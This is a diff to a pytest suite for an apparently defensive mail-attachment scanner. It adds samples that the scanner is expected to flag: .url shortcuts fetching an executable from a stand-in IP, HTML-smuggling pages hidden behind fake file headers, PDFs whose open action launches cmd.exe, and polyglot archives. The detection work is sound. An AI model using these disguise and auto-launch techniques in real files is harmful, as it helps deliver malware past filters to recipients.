@@ -6,6 +6,7 @@ import base64
 import gzip
 import io
 import struct
+import time
 import zlib
 
 import pikepdf
@@ -20,7 +21,7 @@ from gatepost.checks.attachments.item import Inspection
 from gatepost.checks.attachments.kinds import kind_of
 from gatepost.checks.attachments.objects import URL_MONIKER
 from gatepost.mail import file_limits, limits
-from support import files
+from support import archives, files
 from support.compound_file import Storage, compound
 
 PASSWORDS = ("wrong", "infected")
@@ -251,6 +252,14 @@ OTHERS = [
     ("code.png", files.png(files.qr_image(files.LINK)), {"qr"}),
     ("photo.png", files.png() + files.archive({"a.exe": files.PROGRAM}), {"polyglot"}),
     ("picture.png", files.png() + b"Rar!\x1a\x07\1\0" + b"x" * 60, {"polyglot"}),
+    ("start.url", b"[InternetShortcut]\nURL=https://example.org/\nWorkingDirectory=\\\\192.0.2.1\\a\n", {"shortcut"}),
+    ("indented.url", b"[InternetShortcut]\r\n" + b" " * 300 + b"URL=file://192.0.2.1/a.exe\r\n", {"shortcut"}),
+    ("quoted.url", b'[InternetShortcut]\r\nURL="file://192.0.2.1/a.exe"\r\n', {"shortcut"}),
+    (
+        "padded.url",
+        b"[x]\n" + b";" * file_limits.SHORTCUT_BYTES + b"\n[InternetShortcut]\nURL=file://192.0.2.1/a.exe\n",
+        {"shortcut", "partial"},
+    ),
 ]
 
 RUNS_BY_ITSELF = {"macro", "autoopen", "suspicious-macro"}
@@ -459,6 +468,82 @@ PAGES += [
         {"smuggled", "activehtml"},
     ),
 ]
+
+SMUGGLED = files.smuggling_page(archives.zipped({"a.exe": files.PROGRAM})).removeprefix(b"<!DOCTYPE html>")
+URL = b"[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n"
+DISGUISED = [
+    *(
+        (f"{mark[:3]!r}.html", mark + SMUGGLED, {"smuggled", "activehtml"})
+        for mark in (
+            b"GIF89a",
+            b"ID3",
+            b"BZh",
+            b"<!--" + b"\1" * 45 + b"-->",
+            b"<html>" + bytes(60),
+            b"<!--%PDF-1.7-->",
+            b"GIF89a<!--%PDF-1.7-->",
+        )
+    ),
+    *((f"{mark[:3]!r}.url", mark + URL, {"shortcut"}) for mark in (b"GIF89a\r\n", b"\1" * 100 + b"\r\n")),
+    *(
+        (f"{mark[:3]!r}.pdf", mark + files.pdf({"/OpenAction": files.action("Launch", F="cmd.exe")}), {"launch"})
+        for mark in (b"GIF89a\n", b"ID3\n", b"%!PS\n", b"{\\rt\n", b"FLV\1\n")
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "data", "expected"), DISGUISED)
+def test_a_mark_at_the_front_hides_nothing(name: str, data: bytes, expected: set[str]) -> None:
+    """A file is looked into as what its program reads, whatever magic number its sender put in front."""
+    assert expected <= words(look(name, data))
+
+
+TEXT = b"This is a comment.\r\n" * 5
+BEHIND = {
+    "rar": archives.rar5({"invoice.js": b"x"}),
+    "7z": archives.seven_zipped({"invoice.js": b"x"}),
+    "cab": archives.cabbed({"invoice.js": b"x"}),
+}
+
+
+@pytest.mark.parametrize("behind", BEHIND)
+@pytest.mark.parametrize("front", [TEXT, files.pdf(), b"%!PS\n", b"wOFF" + bytes(40)])
+def test_an_archive_behind_something_to_look_at_is_given_out(front: bytes, behind: str) -> None:
+    """Programs find RAR, 7z and cabinet archives behind whatever stands in front: it is told, and opened."""
+    inspection = look(f"docs.{behind}", front + BEHIND[behind])
+    assert "polyglot" in words(inspection)
+    assert [member.content for member in inspection.members if member.unseen] == [BEHIND[behind]]
+
+
+@pytest.mark.parametrize("mark", [b"7z\xbc\xaf\x27\x1c", b"MSCF\0\0\0\0", b"Rar!\x1a\x07"])
+def test_a_mark_alone_is_no_archive(mark: bytes) -> None:
+    """Six letters make no archive, and a real one behind many of them is found."""
+    decoys = TEXT + (mark + b"\xff" * 30) * 50
+    assert "polyglot" not in words(look("a.txt", decoys))
+    assert [member.content for member in look("a.pdf", files.pdf() + decoys + BEHIND["7z"]).members] == [BEHIND["7z"]]
+
+
+def test_a_file_within_a_pdf_makes_no_polyglot() -> None:
+    """An archive that a PDF holds as a file is given out, and nothing to wonder at."""
+    held = files.pdf()[:-7] + b"1 0 obj <<>> stream\r\n" + BEHIND["7z"] + b"\r\nendstream endobj trailer %%EOF"
+    inspection = look("a.pdf", held)
+    assert "polyglot" not in words(inspection)
+    assert inspection.members
+
+
+@pytest.mark.parametrize("unit", [b"{\\a\\b }", b"\\bin1 a", b"{\\*\\objdata 01}"])
+def test_an_rtf_document_full_of_marks_is_parsed_within_bounds(unit: bytes) -> None:
+    """What costs the parser most is bounded by number, not by size alone, and the rest is told."""
+    begin = time.process_time()
+    assert "partial" in words(look("a.rtf", b"{\\rtf1 \\objdata " + unit * (4_000_000 // len(unit)) + b"}"))
+    assert time.process_time() - begin < 8
+
+
+def test_an_object_behind_a_long_rtf_text_is_found() -> None:
+    """What is parsed begins at the first object, so that text in front of it uses nothing up."""
+    text = b"\\par x\n" * (file_limits.RTF_MARKS + 10)
+    data = b"{\\rtf1 " + text + b"{\\object{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}"
+    assert words(look("a.rtf", data)) == {"partial", "object"}
 
 
 @pytest.mark.parametrize(("name", "data", "expected"), [*OFFICE, *PORTABLE, *PAGES, *OTHERS])
